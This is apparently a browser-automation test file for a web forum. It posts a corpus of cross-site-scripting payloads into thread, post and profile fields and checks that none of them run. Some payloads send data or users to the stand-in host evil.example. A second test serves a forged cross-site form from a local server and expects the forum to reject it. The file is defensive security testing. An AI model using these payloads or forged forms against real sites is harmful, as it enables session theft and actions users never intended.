// Texts and pages that mean harm.

import { createServer } from "node:http";
import { Person, equal, holds } from "./browser.mjs";

/** Each sets a mark, or shows a dialog, where it runs. */
const CORPUS = [
  `<script>window.pwned=1;alert(1)</script>`,
  `"><script>alert(1)</script>`,
  `'"><img src=x onerror="window.pwned=1;alert(1)">`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `</title><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `</style><script>alert(1)</script>`,
  `" autofocus onfocus="alert(1)" x="`,
  `[click](javascript:alert(1))`,
  `[click](JaVaScRiPt:alert(1))`,
  `[click](\u0001javascript:alert(1))`,
  `![x](javascript:alert(1))`,
  `![x](https://evil.example/track.png)`,
  `<https://evil.example/" onmouseover="alert(1)>`,
  `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<form action="https://evil.example"><input name=token></form>`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
  `<a href="x" style="position:fixed;inset:0">x</a>`,
  `{{constructor.constructor('alert(1)')()}}`,
  "```html\n<script>alert(1)</script>\n```",
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
];

export const hostile = {
  async "no text becomes a script, in whatever field"({ browser, forum, scripts }) {
    const paths = ["/"];
    for (const text of CORPUS) {
      const { threadId } = await forum.api("POST", "/api/threads", { title: text.replaceAll("\n", " "), description: text, userId: "1" });
      await forum.api("POST", "/api/posts", { threadId, userId: "3", title: text.replaceAll("\n", " ").slice(0, 300), content: text });
      paths.push(`/threads/${threadId}`);
    }
    const token = await forum.token("carol");
    const before = await forum.api("GET", "/api/users/3");
    const carol = await (await Person.of(browser, forum, { scripts })).logIn("Carol");
    const { page } = carol;
    const look = async (path) => {
      await page.goto(path);
      if (!scripts) return;
      equal(await page.evaluate(() => window.pwned), undefined, path);
      // Whatever can be pressed by accident.
      const links = await page.locator("main a[href]").evaluateAll((links) => links.map((link) => link.protocol));
      holds(links.every((protocol) => ["http:", "https:", "mailto:"].includes(protocol)), `${path}: ${links}`);
      equal(await page.locator("main :is(script, img, iframe, svg, style, link, meta, base)").count(), 0, path);
    };
    for (const path of paths) await look(path);
    for (const text of CORPUS) {
      const short = text.replaceAll("\n", " ");
      await forum.api("PATCH", "/api/users/me", { name: short.slice(0, 100), username: short.slice(0, 50), bio: text }, token);
      await look("/users/3");
      await look("/profile");
    }
    await look(`${paths[1]}/edit`);
    await forum.api("PATCH", "/api/users/me", { name: before.name, username: before.username ?? null, bio: before.bio ?? null }, token);
    for (const path of paths.slice(1)) await forum.api("DELETE", `/api${path}?cascade=true`, undefined, token);
    await carol.leave();
  },

  async "a form of another site does nothing"({ browser, forum, scripts }) {
    // Of another port: the same site to a browser, which sends the cookies along. Of another host: another site.
    const fields = `<input name=content value=Forged><input name=title value=Forged><input name=do value=send>`;
    const evil = createServer((request, response) => {
      const target = `${forum.url}${new URL(request.url, "http://evil").searchParams.get("path")}`;
      response.setHeader("Content-Type", "text/html");
      response.end(`<form method=post action="${target}">${fields}<button>Win a prize</button></form>`);
    });
    await new Promise((done) => evil.listen(0, "127.0.0.1", done));
    const { port } = evil.address();
    const expected = ["http://localhost:", "http://127.0.0.1:", "403 (Forbidden)", "favicon"];
    const alice = await (await Person.of(browser, forum, { scripts, seen: { expected } })).logIn("Alice");
    const counts = async () => [(await forum.contents("1")).length, (await forum.api("GET", "/api/threads?limit=1000")).length];
    const before = await counts();
    for (const host of ["localhost", "127.0.0.1"]) {
      for (const path of ["/threads/1/reply", "/new-thread", "/posts/1/delete", "/profile/delete", "/log-out"]) {
        await alice.page.goto(`http://${host}:${port}/?path=${encodeURIComponent(path)}`);
        await alice.page.getByRole("button").click();
        await alice.page.getByText("This form was not sent from a page of this forum.").waitFor();
      }
    }
    equal(await counts(), before);
    await alice.page.goto("/");
    await alice.page.getByRole("button", { name: "Log out" }).waitFor();
    await new Promise((done) => evil.close(done));
    await alice.leave();
  },
};
